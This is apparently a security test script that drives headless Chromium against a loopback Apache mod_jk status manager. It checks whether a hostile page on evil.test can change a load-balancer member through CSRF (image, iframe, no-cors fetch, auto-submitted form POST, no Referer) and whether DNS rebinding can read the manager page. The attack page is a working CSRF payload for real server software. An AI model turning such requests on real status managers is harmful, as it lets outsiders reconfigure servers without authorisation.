#!/usr/bin/env node
// A page on another site tries to change the status manager through the visitor's
// browser, over plain http at host names other than localhost (so Chromium sends no
// Sec-Fetch-* headers), with referrerpolicy=no-referrer (so no Referer either): an
// <img>, an <iframe>, fetch(no-cors) and an auto-submitted form POST. It also tries to
// read the page under a name the server does not know (DNS rebinding).
//
// Usage:
//   node cross_site_attack.mjs HTTPD_PORT MOUNT_PATH LB MEMBER
//   e.g. node cross_site_attack.mjs 8080 /jkmanager/ load_balancer tomcat3
//
// The attacking page is served by this script on 127.0.0.1 (an ephemeral port) as
// http://evil.test:PORT/; the status manager is reached as http://jkm.test:HTTPD_PORT
// (Chromium maps evil.test to 127.0.0.1, jkm.test and rebind.test to httpd's loopback
// address $HTTPD_HOST, default 127.0.0.1; nothing else is contacted). Prints one JSON
// line: every request the page made to the status manager with its answer's status (null
// when the browser did not hand the answer to the page), and the rebinding read's status.
// Exit status: 0 when all four attack requests ended, 2 on errors.

import { createServer } from 'node:http';
import { launch } from './chromium.mjs';

const [port, mount = '/jkmanager/', lb = 'load_balancer', member = 'tomcat3'] =
  process.argv.slice(2);
if (!/^\d{1,5}$/.test(port ?? '') || !mount.startsWith('/')) {
  console.error('usage: node cross_site_attack.mjs HTTPD_PORT MOUNT_PATH LB MEMBER');
  process.exit(2);
}

const host = process.env.HTTPD_HOST ?? '127.0.0.1';
if (!/^127\.\d{1,3}\.\d{1,3}\.\d{1,3}$/.test(host)) {
  console.error('HTTPD_HOST must be a 127.x.y.z address');
  process.exit(2);
}

const target = `http://jkm.test:${port}${mount}`;
const update = (extra) => `${target}?cmd=update&w=${lb}&sw=${member}&${extra}`;
const attack = `<!doctype html>
<html><body>
<img referrerpolicy="no-referrer" src="${update('vwa=S')}">
<iframe referrerpolicy="no-referrer" src="${update('vwf=7')}"></iframe>
<iframe name="sink"></iframe>
<form id="f" method="post" action="${target}" target="sink">
  <input type="hidden" name="cmd" value="update">
  <input type="hidden" name="w" value="${lb}">
  <input type="hidden" name="sw" value="${member}">
  <input type="hidden" name="vwa" value="D">
</form>
<script>
  fetch(${JSON.stringify(update('vwd=3'))}, { mode: 'no-cors', referrerPolicy: 'no-referrer' })
    .catch(() => {});
  document.getElementById('f').submit();
</script>
</body></html>`;

const server = createServer((req, res) => {
  res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
  res.end(attack);
});
await new Promise((ok) => server.listen(0, '127.0.0.1', ok));
const evil = `http://evil.test:${server.address().port}/`;

const result = { attack: [], rebinding: null };
let browser;
try {
  browser = await launch([
    `--host-resolver-rules=MAP jkm.test ${host}, MAP evil.test 127.0.0.1, MAP rebind.test ${host}`,
  ]);
  const { context } = browser;
  const page = context.pages()[0] ?? (await context.newPage());
  page.setDefaultTimeout(15000);
  // Every request the attacking page makes to the status manager (frames included), once
  // it has ended: its answer's status, or what the browser made of it (an <img> whose
  // answer is HTML is blocked by the browser after the server answered).
  const answered = new Promise((done) => {
    const ended = async (req, failure) => {
      if (!req.url().startsWith(target)) return;
      const r = failure ? null : await req.response();
      result.attack.push({
        method: req.method(),
        url: req.url(),
        status: r ? r.status() : null,
        failure: failure ?? null,
      });
      if (result.attack.length === 4) done();
    };
    context.on('requestfinished', (req) => ended(req, null));
    context.on('requestfailed', (req) => ended(req, req.failure()?.errorText ?? 'failed'));
  });
  await page.goto(evil, { waitUntil: 'load' });
  let timer;
  await Promise.race([
    answered,
    new Promise((_, fail) => {
      timer = setTimeout(() => fail(new Error('timeout waiting for 4 answers')), 15000);
    }),
  ]).finally(() => clearTimeout(timer));
  // DNS rebinding: the attacker's name now points at the server; can it read the page?
  const rebound = await page.goto(`http://rebind.test:${port}${mount}`, { waitUntil: 'load' });
  result.rebinding = rebound?.status() ?? null;
  console.log(JSON.stringify(result));
} catch (e) {
  console.log(JSON.stringify({ error: String(e), ...result }));
  process.exitCode = 2;
} finally {
  if (browser) await browser.close();
  server.close();
}
